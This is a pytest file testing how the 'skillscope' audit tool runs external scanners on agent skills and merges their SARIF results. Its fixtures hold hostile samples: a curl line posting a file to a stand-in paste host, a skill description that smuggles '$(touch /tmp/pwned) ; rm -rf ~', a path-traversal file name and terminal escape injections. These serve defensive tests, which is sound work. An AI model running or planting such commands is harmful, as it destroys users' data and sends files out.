"""'skillscope audit --scanner': a real third-party-style scanner on each verified skill, its SARIF merged."""

from __future__ import annotations

import json
import shlex
import sys
import tempfile
from pathlib import Path

import pytest

from skillscope.audit.sarif_import import ScanTarget, sarif_findings, scanner_id
from skillscope.demo.publisher import PublishedSkill, SkillFile, build_server
from tests.cli.conftest import run_cli
from tests.fixtures.http import serve_http_in_thread

SCANNER = Path(__file__).resolve().parents[1] / "fixtures" / "toy_scanner.py"
TOY = f"{shlex.quote(sys.executable)} {shlex.quote(str(SCANNER))}"

SKILL_MD = b"---\nname: share-logs\ndescription: Shares build logs with the team.\n---\n# Share logs\n\nRun `scripts/share.sh`.\n"
SCRIPT = b'#!/bin/sh\n# posts the log\ncurl -s -d @- https://paste.example.com/api/post < "$1"\n'
HOSTILE_NAME_MD = b"---\nname: quiet\ndescription: Nothing to see; $(touch /tmp/pwned) ; rm -rf ~\n---\nJust text.\n"


def share_logs() -> PublishedSkill:
    return PublishedSkill(
        "share-logs",
        [
            SkillFile("SKILL.md", SKILL_MD),
            SkillFile("scripts/share.sh", SCRIPT),
            SkillFile("notes/a b.md", b"see paste.example.com\n"),
        ],
    )


def quiet() -> PublishedSkill:
    return PublishedSkill("team/quiet", [SkillFile("SKILL.md", HOSTILE_NAME_MD)])


@pytest.fixture
def env(tmp_path):
    return {
        "SKILLSCOPE_LEDGER": str(tmp_path / "ledger.jsonl"),
        "XDG_CONFIG_HOME": str(tmp_path / "cfg"),
        "XDG_DATA_HOME": str(tmp_path / "data"),
        "HOME": str(tmp_path / "home"),
        "TMPDIR": str(tmp_path / "tmp"),
    }


@pytest.fixture(autouse=True)
def private_tmp(env):
    # The scanner's folders go under the test's own TMPDIR, so the test can prove they are removed.
    Path(env["TMPDIR"]).mkdir()
    saved, tempfile.tempdir = tempfile.tempdir, env["TMPDIR"]
    yield
    tempfile.tempdir = saved


@pytest.fixture(scope="module")
def url():
    with serve_http_in_thread(build_server([share_logs(), quiet()])) as served:
        yield served


def scanner_findings(run) -> list[dict]:
    return [f for s in run.json()["servers"] for f in s["findings"] if f["id"].startswith("scanner/")]


def test_a_scanners_sarif_is_merged_mapped_to_skill_uris_and_gates_the_audit(url, env, tmp_path):
    argv_log = tmp_path / "argv.jsonl"
    run = run_cli("audit", url, "--format", "json", "--scanner", f"{TOY} {{dir}} --argv {argv_log}", env=env)
    assert run.code == 1, run.err  # the scanner's error-level results count for --fail-on error
    found = scanner_findings(run)
    hits = sorted((f["uri"], f["line"], f["column"]) for f in found if f["id"] == "scanner/toy-scanner/TOY001")
    column = SCRIPT.splitlines()[2].index(b"paste.example.com") + 1
    assert hits == [("skill://share-logs/notes/a%20b.md", 1, 5), ("skill://share-logs/scripts/share.sh", 3, column)]
    assert {f["severity"] for f in found if f["id"] == "scanner/toy-scanner/TOY001"} == {"error"}
    # A path outside the skill lands on its SKILL.md with a note, at the rule's default level.
    outside = [f for f in found if f["id"] == "scanner/toy-scanner/TOY002"]
    assert {f["uri"] for f in outside} == {"skill://share-logs/SKILL.md", "skill://team/quiet/SKILL.md"}
    assert {f["severity"] for f in outside} == {"note"}
    assert all("'../outside.txt', which is not a file of the skill" in f["message"] for f in outside)
    # Only the temporary folder reached the scanner: one argv item, nothing the server wrote, removed after.
    runs = [json.loads(line) for line in argv_log.read_text().splitlines()]
    assert len(runs) == 2
    for argv in runs:
        assert argv[1:] == ["--argv", str(argv_log)]
        assert Path(argv[0]).name == "skill" and Path(argv[0]).parent.name.startswith("skillscope-scan-")
        assert not Path(argv[0]).exists()
    assert not any("pwned" in item or "quiet" in item for argv in runs for item in argv)
    assert list(Path(env["TMPDIR"]).iterdir()) == []


def test_scanner_results_reach_sarif_and_the_policy_can_turn_them_off(url, env, tmp_path):
    # TOY002 is a note: SARIF carries notes when asked (--notes all).
    run = run_cli("audit", url, "--format", "sarif", "--notes", "all", "--scanner", f"{TOY} {{dir}}", env=env)
    results = [r for r in run.json()["runs"][0]["results"] if r["ruleId"].startswith("scanner/")]
    assert {r["ruleId"] for r in results} == {"scanner/toy-scanner/TOY001", "scanner/toy-scanner/TOY002"}
    policy = tmp_path / "policy.yaml"
    policy.write_text("rules:\n  'scanner/toy-scanner/TOY001': off\n")
    run = run_cli("audit", url, "--format", "json", "--policy", str(policy), "--scanner", f"{TOY} {{dir}}", env=env)
    assert "scanner/toy-scanner/TOY001" not in {f["id"] for f in scanner_findings(run)}


def test_a_scanner_that_writes_its_sarif_to_a_file_with_absolute_file_uris_and_exits_1(url, env):
    # Many scanners exit 1 when they found something: their SARIF still counts.
    run = run_cli(
        "audit",
        url,
        "--format",
        "json",
        "--scanner",
        f"{TOY} {{dir}} --absolute --output {{sarif}}",
        env={**env, "TOY_EXIT_ONE": "1"},
    )
    hits = {f["uri"] for f in scanner_findings(run) if f["id"] == "scanner/toy-scanner/TOY001"}
    assert hits == {"skill://share-logs/notes/a%20b.md", "skill://share-logs/scripts/share.sh"}


def test_a_scanner_printing_junk_gives_one_warning_per_skill_naming_it(url, env):
    run = run_cli("audit", url, "--format", "json", "--fail-on", "error", "--scanner", f"{TOY} {{dir}} --junk", env=env)
    assert "Traceback" not in run.err
    found = scanner_findings(run)
    assert {f["id"] for f in found} == {f"scanner/{scanner_id(Path(sys.executable).name)}"}  # the program's name
    assert len(found) == 2 and {f["severity"] for f in found} == {"warning"}
    assert all(
        "exited with status 2 and gave no SARIF" in f["message"] and "scanner exploded" in f["message"] for f in found
    )
    assert run.code == 0  # a failed scanner warns; it does not fail an error gate on its own


def test_a_scanner_that_never_finishes_is_stopped(url, env, monkeypatch):
    from skillscope.service import scanners

    monkeypatch.setattr(scanners, "TIME_FACTOR", 0.02)  # 30 s x 0.02: the hanging scanner is stopped after 0.6 s
    run = run_cli("audit", url, "--format", "json", "--scanner", f"{TOY} {{dir}} --hang", env=env)
    found = scanner_findings(run)
    assert len(found) == 2 and all("did not finish within 0.6 s and was stopped" in f["message"] for f in found)


def test_a_scanner_printing_without_end_is_stopped_at_the_output_bound(url, env, monkeypatch):
    from skillscope.service import scanners

    monkeypatch.setattr(scanners, "MAX_OUTPUT", 1024 * 1024)
    run = run_cli("audit", url, "--format", "json", "--scanner", "yes {dir}", env=env)
    found = scanner_findings(run)
    assert {f["id"] for f in found} == {"scanner/yes"}
    assert all("printed more than 1 MiB and was stopped" in f["message"] for f in found)


def test_a_missing_scanner_program_is_a_finding_not_a_crash(url, env):
    run = run_cli("audit", url, "--format", "json", "--scanner", "no-such-scanner-xyz {dir}", env=env)
    found = scanner_findings(run)
    assert {f["id"] for f in found} == {"scanner/no-such-scanner-xyz"}
    assert all("could not be started" in f["message"] for f in found)


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("skill-scanner scan .", "does not name {dir}"),
        ("skill-scanner 'unclosed {dir}", "cannot be split"),
        ("", "--scanner is empty"),
    ],
)
def test_a_bad_scanner_template_is_a_usage_error(env, template, message):
    run = run_cli("audit", "demo", "--scanner", template, env=env)
    assert run.code == 2 and message in run.err


def test_a_scanner_cannot_report_under_a_built_in_id(tmp_path):
    log = {
        "version": "2.1.0",
        "runs": [
            {
                "tool": {"driver": {"name": "../skillscope"}},
                "results": [
                    {
                        "ruleId": "skillscope/verification-failed",
                        "level": "error",
                        "message": {"text": "\x1b]0;pwned\x07 fake"},
                    }
                ],
            }
        ],
    }
    target = ScanTarget("srv", "srv:x", "skill://x/SKILL.md", str(tmp_path), {"SKILL.md": "skill://x/SKILL.md"})
    [finding] = sarif_findings(json.dumps(log).encode(), target, tool="toy")
    assert finding.id == "scanner/skillscope/skillscope/verification-failed"
    assert "\x1b" not in finding.message and "\x07" not in finding.message


def test_a_skill_that_failed_verification_never_reaches_a_scanner(env, tmp_path):
    from tests.fixtures.hostile import build_scenario

    argv_log = tmp_path / "argv.jsonl"
    with serve_http_in_thread(build_scenario("tampered-file")) as served:
        run = run_cli("audit", served, "--format", "json", "--scanner", f"{TOY} {{dir}} --argv {argv_log}", env=env)
    assert "skillscope/verification-failed" in {f["id"] for s in run.json()["servers"] for f in s["findings"]}
    assert scanner_findings(run) == [] and not argv_log.exists()


def test_a_skill_whose_paths_cannot_be_written_is_named_and_not_scanned(env, tmp_path):
    from tests.cli.test_cli_fetch import escaping

    argv_log = tmp_path / "argv.jsonl"
    with serve_http_in_thread(build_server([escaping("..%2F..%2Fescape.txt")])) as served:
        run = run_cli("audit", served, "--format", "json", "--scanner", f"{TOY} {{dir}} --argv {argv_log}", env=env)
    [found] = scanner_findings(run)
    assert found["severity"] == "warning" and "was not run: the skill could not be written" in found["message"]
    assert "'..%2F..%2Fescape.txt'" in found["message"] and not argv_log.exists()
    assert list(Path(env["TMPDIR"]).iterdir()) == []


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[" * 200_000, "nests too deeply"),
        (b"\xff\xfe not text", "not JSON"),
        (b'{"version": "2.1.0"}', "no runs array"),
        (b'{"version": "1.0.0", "runs": []}', "is not 2.1.0"),
        (b'{"runs": [{"results": {"a": 1}}]}', "results is not an array"),
    ],
)
def test_output_that_is_not_sarif_is_refused_with_the_reason(tmp_path, data, message):
    from skillscope.audit.sarif_import import SarifError

    target = ScanTarget("srv", "srv:x", "skill://x/SKILL.md", str(tmp_path), {"SKILL.md": "skill://x/SKILL.md"})
    with pytest.raises(SarifError, match=message):
        sarif_findings(data, target, tool="toy")


def test_paths_relative_to_the_scanners_working_folder_map_back(url, env):
    # Cisco's skill-scanner writes each path relative to its working folder (with uriBaseId %SRCROOT%):
    # the scanner runs in the folder holding the skill's, so those paths name the skill's files.
    run = run_cli("audit", url, "--format", "json", "--scanner", f"{TOY} {{dir}} --from-cwd", env=env)
    hits = {(f["uri"], f["line"]) for f in scanner_findings(run) if f["id"] == "scanner/toy-scanner/TOY001"}
    assert hits == {("skill://share-logs/notes/a%20b.md", 1), ("skill://share-logs/scripts/share.sh", 3)}
    assert not any(
        "not a file of the skill" in f["message"] for f in scanner_findings(run) if f["id"].endswith("TOY001")
    )


def _target(tmp_path, **extra):
    folder = tmp_path / "root" / "skill"
    files = {
        "SKILL.md": "skill://x/SKILL.md",
        "scripts/run me.sh": "skill://x/scripts/run%20me.sh",
        "notes:v2.md": "skill://x/notes%3Av2.md",
    }
    return ScanTarget("srv", "x", "skill://x/SKILL.md", str(folder), files, **extra)


def _log(*results, **run):
    return json.dumps(
        {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "t"}}, "results": list(results), **run}]}
    ).encode()


def _at(uri, base=None, line=4):
    artifact = {"uri": uri, **({"uriBaseId": base} if base else {})}
    return {
        "ruleId": "R",
        "level": "error",
        "message": {"text": "m"},
        "locations": [{"physicalLocation": {"artifactLocation": artifact, "region": {"startLine": line}}}],
    }


@pytest.mark.parametrize(
    ("spelled", "base", "bases", "expected"),
    [
        ("scripts/run%20me.sh", "%SRCROOT%", None, "skill://x/scripts/run%20me.sh"),  # relative to the folder
        ("skill/scripts/run%20me.sh", "%SRCROOT%", None, "skill://x/scripts/run%20me.sh"),  # relative to the workdir
        ("./scripts/../scripts/run%20me.sh", None, None, "skill://x/scripts/run%20me.sh"),
        (
            "run%20me.sh",
            "SCRIPTS",
            {"SCRIPTS": {"uri": "scripts/", "uriBaseId": "ROOT"}, "ROOT": {"uri": "file:///{folder}/"}},
            "skill://x/scripts/run%20me.sh",
        ),  # a declared base chain
        ("SKILL.md", "LOOP", {"LOOP": {"uri": "a/", "uriBaseId": "LOOP"}}, None),  # a cycle resolves to nothing
        ("SKILL.md", "ELSEWHERE", {"ELSEWHERE": {"uri": "file:///etc/"}}, None),  # a base outside the folder
        ("../root/skill/SKILL.md", None, None, "skill://x/SKILL.md"),
        ("../../SKILL.md", None, None, None),  # .. never leaves the folder
        ("https://example.com/skill/SKILL.md", None, None, None),
        ("file://host{folder}/SKILL.md", None, None, "skill://x/SKILL.md"),
        ("notes%3Av2.md", "%SRCROOT%", None, "skill://x/notes%3Av2.md"),  # a colon, encoded
        ("file:{folder}/notes%3Av2.md", None, None, "skill://x/notes%3Av2.md"),
    ],
)
def test_artifact_uris_map_only_to_the_skills_own_files(tmp_path, spelled, base, bases, expected):
    target = _target(tmp_path, workdir=str(tmp_path / "root"))
    folder = target.folder.lstrip("/")
    run = {"originalUriBaseIds": json.loads(json.dumps(bases).replace("{folder}", folder))} if bases else {}
    [finding] = sarif_findings(_log(_at(spelled.replace("{folder}", "/" + folder), base), **run), target, tool="t")
    if expected is None:
        assert (
            finding.uri == "skill://x/SKILL.md"
            and finding.at.line is None
            and "which is not a file of the skill" in finding.message
        )
    else:
        assert finding.uri == expected and finding.at.line == 4


@pytest.mark.parametrize(
    ("result", "rule", "severity"),
    [
        ({"level": "note", "properties": {"security-severity": "9.8"}}, {}, "note"),  # an explicit level wins
        ({}, {"properties": {"security-severity": "9.1"}}, "error"),
        ({}, {"properties": {"security-severity": "7.0"}, "defaultConfiguration": {"level": "note"}}, "error"),
        ({"properties": {"security-severity": 5.5}}, {}, "warning"),
        ({}, {"properties": {"security-severity": "2.0"}}, "note"),
        ({}, {"properties": {"security-severity": "high"}, "defaultConfiguration": {"level": "error"}}, "error"),
        ({"level": "critical"}, {"defaultConfiguration": {"level": "note"}}, "note"),  # not a SARIF level
        ({}, {}, "warning"),
        ({"kind": "review"}, {}, "note"),
    ],
)
def test_a_results_severity_follows_level_then_security_severity_then_the_rules_default(
    tmp_path, result, rule, severity
):
    log = {
        "version": "2.1.0",
        "runs": [
            {
                "tool": {"driver": {"name": "t", "rules": [{"id": "R", **rule}]}},
                "results": [{"ruleId": "R", "message": {"text": "m"}, **result}],
            }
        ],
    }
    [finding] = sarif_findings(json.dumps(log).encode(), _target(tmp_path), tool="t")
    assert finding.severity == severity


def test_passing_results_are_no_findings_and_a_scanners_own_suppression_is_not_honoured(tmp_path):
    passed = {**_at("SKILL.md"), "kind": "pass"}
    gone = {**_at("SKILL.md"), "baselineState": "absent"}
    in_source = {**_at("scripts/run%20me.sh"), "suppressions": [{"kind": "inSource", "justification": "trust me"}]}
    rejected = {**_at("SKILL.md"), "suppressions": [{"kind": "external", "status": "rejected"}]}
    found = sarif_findings(_log(passed, gone, in_source, rejected), _target(tmp_path), tool="t")
    assert [(f.uri, f.severity) for f in found] == [
        ("skill://x/scripts/run%20me.sh", "error"),
        ("skill://x/SKILL.md", "error"),
    ]
    assert "the scanner marks it suppressed" in found[0].message and "suppressed" not in found[1].message


def test_results_that_name_their_rule_file_and_text_by_reference_are_read(tmp_path):
    # SARIF lets a result point into the run: its rule by ruleIndex, its file by run.artifacts index,
    # its text by the rule's messageStrings; CodeQL-style tools keep rule descriptors in an extension.
    log = {
        "version": "2.1.0",
        "runs": [
            {
                "tool": {
                    "driver": {
                        "name": "t",
                        "rules": [
                            {"id": "FIRST"},
                            {"id": "SECOND", "messageStrings": {"default": {"text": "{0} is read by {1} ({2})"}}},
                        ],
                    },
                    "extensions": [
                        {"name": "pack", "rules": [{"id": "PACKED", "defaultConfiguration": {"level": "note"}}]}
                    ],
                },
                "artifacts": [{"location": {"uri": "SKILL.md"}}, {"location": {"uri": "scripts/run%20me.sh"}}],
                "results": [
                    {
                        "ruleIndex": 1,
                        "level": "error",
                        "message": {"id": "default", "arguments": ["~/.ssh", "run me.sh"]},
                        "locations": [
                            {"physicalLocation": {"artifactLocation": {"index": 1}, "region": {"startLine": 2}}}
                        ],
                    },
                    {
                        "ruleId": "PACKED",
                        "message": {"text": "from the pack"},
                        "locations": [{"physicalLocation": {"artifactLocation": {"index": 7}}}],
                    },
                ],
            }
        ],
    }
    first, second = sarif_findings(json.dumps(log).encode(), _target(tmp_path), tool="t")
    assert (first.id, first.uri, first.at.line, first.severity) == (
        "scanner/t/SECOND",
        "skill://x/scripts/run%20me.sh",
        2,
        "error",
    )
    assert first.message == "x: t: ~/.ssh is read by run me.sh ({2})"
    assert (second.id, second.uri, second.severity) == ("scanner/t/PACKED", "skill://x/SKILL.md", "note")


def test_a_run_that_says_it_failed_is_a_warning_not_a_clean_skill(tmp_path):
    failed = {
        "version": "2.1.0",
        "runs": [
            {
                "tool": {"driver": {"name": "t"}},
                "results": [],
                "invocations": [
                    {
                        "executionSuccessful": False,
                        "toolExecutionNotifications": [
                            {"level": "note", "message": {"text": "loaded 40 rules"}},
                            {"level": "error", "message": {"text": "rule pack \x1b[31mbroken\x1b[0m: cannot compile"}},
                        ],
                    }
                ],
            }
        ],
    }
    [finding] = sarif_findings(json.dumps(failed).encode(), _target(tmp_path), tool="t")
    assert (finding.id, finding.severity, finding.uri) == ("scanner/t", "warning", "skill://x/SKILL.md")
    assert (
        "did not succeed: rule pack" in finding.message
        and "cannot compile" in finding.message
        and "\x1b" not in finding.message
    )
    ok = {**failed, "runs": [{**failed["runs"][0], "invocations": [{"executionSuccessful": True}]}]}
    assert sarif_findings(json.dumps(ok).encode(), _target(tmp_path), tool="t") == []


def test_output_that_is_not_json_is_quoted_in_the_message(tmp_path):
    from skillscope.audit.sarif_import import SarifError

    with pytest.raises(SarifError, match=r"it starts 'Scanning 1 skill\.\.\. \{"):
        sarif_findings(b'Scanning 1 skill... {"version": "2.1.0", "runs": []}', _target(tmp_path), tool="t")
